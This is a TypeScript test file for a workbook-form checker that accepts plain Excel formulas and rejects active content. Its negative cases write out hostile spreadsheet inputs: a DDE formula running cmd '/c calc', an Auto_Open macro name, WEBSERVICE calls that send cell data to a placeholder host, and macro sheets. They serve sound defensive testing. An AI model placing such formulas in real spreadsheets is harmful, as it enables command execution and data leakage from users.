import { strToU8, zipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { checkForm } from '#server/platform/workbook/fill-forms.ts'
import { workbookParts } from '#test/workbooks.ts'

const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
const placeholder = '<row r="1"><c r="A1" t="inlineStr"><is><t>{{name}}</t></is></c></row>'
const partsWith = (formula: string) => workbookParts({ Form: `${placeholder}<row r="2"><c r="A2"><f>${formula}</f><v>1</v></c></row>` })
const relsOf = (kind: string, rest: string) =>
  strToU8(
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" ${rest}/></Relationships>`,
  )

describe('a workbook', () => {
  it.each([
    'SUM(B2:B9)/8',
    'IF(AVERAGE(B2:B9)&gt;=80,&quot;A (excellent)&quot;,VLOOKUP(C2,&apos;Grades (2)&apos;!$A$1:$B$12,2,TRUE))',
    '_xlfn.RANK.EQ(B2,Table1[[#All],[Total (%)]])',
    'IFERROR(ROUND(SUMPRODUCT(B2:B9,C2:C9)/SUM(C2:C9),1),&quot;-&quot;)',
    '_xlfn.LET(_xlpm.x,SUM(B2:B9),_xlpm.x*2)',
  ])('may compute %s', (formula) => {
    expect(checkForm(zipSync(partsWith(formula)))).toMatchObject({ kind: 'xlsx', places: 1 })
  })

  it.each([
    'WEBSERVICE(&quot;http://x.example/&quot;&amp;A1)',
    '_xlfn.WEBSERVICE(A1)',
    '_xlfn.IMAGE(A1)',
    'HYPERLINK(A1)',
    'hyperlink (A1)',
    'RTD(&quot;a&quot;,,A1)',
    'CALL(A1)',
    'cmd|&apos;/c calc&apos;!A1',
    '[1]Sheet1!A1',
    'SUM(&apos;C:\\x\\[marks.xlsx]Sheet1&apos;!A1)',
    '[1]!Name',
    'SOMETHING(A1)',
  ])('may not ask for more: %s', (formula) => {
    expect(checkForm(zipSync(partsWith(formula)))).toEqual({ fault: 'form-not-plain' })
  })

  const plain = workbookParts({ Form: placeholder })
  it.each<[string, Record<string, Uint8Array>]>([
    [
      'a name that is a program',
      {
        'xl/workbook.xml': strToU8(
          `<x:workbook xmlns:x="${main}"><x:definedNames><x:definedName name="Auto_Open" xlm="1">A1</x:definedName></x:definedNames></x:workbook>`,
        ),
      },
    ],
    [
      'a name that fetches',
      {
        'xl/workbook.xml': strToU8(
          `<workbook xmlns="${main}"><definedNames><definedName name="a">WEBSERVICE(A1)</definedName></definedNames></workbook>`,
        ),
      },
    ],
    [
      'another program to ask',
      { 'xl/links/a.xml': strToU8(`<q:externalLink xmlns:q="${main}"><q:ddeLink ddeService="cmd" ddeTopic="/c calc"/></q:externalLink>`) },
    ],
    ['a relation that leads out', { 'xl/worksheets/_rels/sheet1.xml.rels': relsOf('hyperlink', 'Target="https://x.example" TargetMode="External"') }],
    ['a relation to another workbook', { 'xl/_rels/a.xml.rels': relsOf('externalLink', 'Target="a.xml"') }],
    [
      'a macro sheet by its relation',
      {
        'xl/_rels/a.xml.rels': strToU8(
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/></Relationships>',
        ),
      },
    ],
    ['a sheet elsewhere', { 'xl/_rels/workbook.xml.rels': relsOf('worksheet', 'Target="/other/sheet1.xml"') }],
    [
      'a macro sheet by its type',
      {
        '[Content_Types].xml': strToU8(
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/a.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
        ),
      },
    ],
    [
      'a shape that runs a macro',
      {
        'xl/drawings/drawing1.xml': strToU8(
          '<d:wsDr xmlns:d="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"><d:sp macro="[0]!Run"/></d:wsDr>',
        ),
      },
    ],
    [
      'a rule that fetches',
      {
        'xl/worksheets/sheet1.xml': strToU8(
          `<worksheet xmlns="${main}" xmlns:y="http://schemas.microsoft.com/office/excel/2009/9/main"><sheetData>${placeholder}</sheetData><extLst><ext><y:cfRule><y:f>WEBSERVICE(A1)</y:f></y:cfRule></ext></extLst></worksheet>`,
        ),
      },
    ],
  ])('holds no %s', (_name, parts) => {
    expect(checkForm(zipSync({ ...plain, ...parts }))).toEqual({ fault: 'form-not-plain' })
  })

  it('as Excel writes it is taken, with the settings of its printer', () => {
    const types = ['sheet.main', 'worksheet', 'styles', 'sharedStrings', 'calcChain'].map(
      (kind) => `<Override PartName="/xl/${kind}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.${kind}+xml"/>`,
    )
    const written = {
      ...plain,
      '[Content_Types].xml': strToU8(
        `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"/>${types.join('')}</Types>`,
      ),
      'xl/worksheets/_rels/sheet1.xml.rels': relsOf('printerSettings', 'Target="../printerSettings/printerSettings1.bin"'),
      'xl/printerSettings/printerSettings1.bin': new Uint8Array(16),
      'docProps/app.xml': strToU8(
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><HyperlinkBase>https://x.example</HyperlinkBase></Properties>',
      ),
    }
    expect(checkForm(zipSync(written))).toMatchObject({ kind: 'xlsx', places: 1 })
  })
})
